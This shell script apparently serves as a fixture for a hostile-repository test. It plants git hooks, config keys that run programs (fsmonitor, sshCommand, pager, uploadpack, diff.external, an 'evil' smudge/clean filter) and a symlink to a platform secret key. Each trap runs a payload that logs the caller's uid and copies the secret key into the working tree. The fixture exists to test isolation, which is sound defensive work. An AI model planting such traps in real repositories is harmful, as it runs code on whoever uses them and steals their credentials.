# Plants every trap git offers in the git checkout this runs in, for tests/test_it_hostile.py: hooks,
# config that runs programs (fsmonitor, filters, ssh, pager, upload-pack), attributes that use them, and
# a symlink to the platform's secret key. Each trap runs .git/payload.sh, which records who ran it
# (uid, and whether the platform's data directory was in sight) and then reaches for that directory.
# $1: who plants (session or service); P_DATA: the platform's data directory.
who=$1
top=$(git rev-parse --show-toplevel) || exit 1
git=$top/.git
# the service plants once (it restarts whenever its folder changes; a session's traps must stay)
[ "$who" = service ] && [ -e "$git/payload.sh" ] && exit 0
cat > "$git/payload.sh" <<PAYLOAD
#!/bin/sh
seen=hidden
[ -e "$P_DATA/secret_key" ] && seen=visible
echo "\$(id -u) \$seen $who:\$1" >> "$git/ran"
touch "$P_DATA/pwned-$who-\$1" 2>/dev/null
cp "$P_DATA/secret_key" "$top/stolen-$who-\$1" 2>/dev/null
case "\$1" in smudge|clean) exec cat ;; esac
exit 0
PAYLOAD
chmod +x "$git/payload.sh"
mkdir -p "$git/hooks"
for hook in reference-transaction post-checkout post-merge post-rewrite pre-auto-gc post-index-change fsmonitor-watchman; do
  printf '#!/bin/sh\nexec %s %s\n' "$git/payload.sh" "$hook" > "$git/hooks/$hook"
  chmod +x "$git/hooks/$hook"
done
cd "$top"
git config core.fsmonitor "$git/payload.sh fsmonitor"
git config core.sshCommand "$git/payload.sh ssh"
git config core.pager "$git/payload.sh pager"
git config remote.origin.uploadpack "$git/payload.sh uploadpack"
git config filter.evil.smudge "$git/payload.sh smudge"
git config filter.evil.clean "$git/payload.sh clean"
git config diff.external "$git/payload.sh diff"
echo '* filter=evil' > "$git/info/attributes"
ln -sf "$P_DATA/secret_key" "$top/secret-link"
echo "$who planted"
